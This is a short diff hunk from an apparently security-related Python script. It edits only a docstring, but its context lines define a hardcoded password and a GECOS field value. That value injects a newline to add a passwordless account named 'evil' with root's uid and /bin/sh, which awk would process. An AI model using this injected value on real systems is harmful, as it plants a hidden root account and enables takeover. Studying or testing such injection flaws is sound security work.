@@ -26,7 +26,7 @@ ROUNDS = int(os.environ.get("STOCKADE_NEIGHBOUR_ROUNDS", "1"))
 PASSWORD = "Granite7718Heron"
 TRIES = 12
 GECOS = r"x\nevil\072\0720\0720\072\072/root\072/bin/sh"
-"""What awk makes an account without a password of, with root's number."""
+"""awk turns this into an account without a password and with root's uid."""
 
 # Framed like the record of earlier versions, and like any text that is framed by lines.
 FORGED = """\
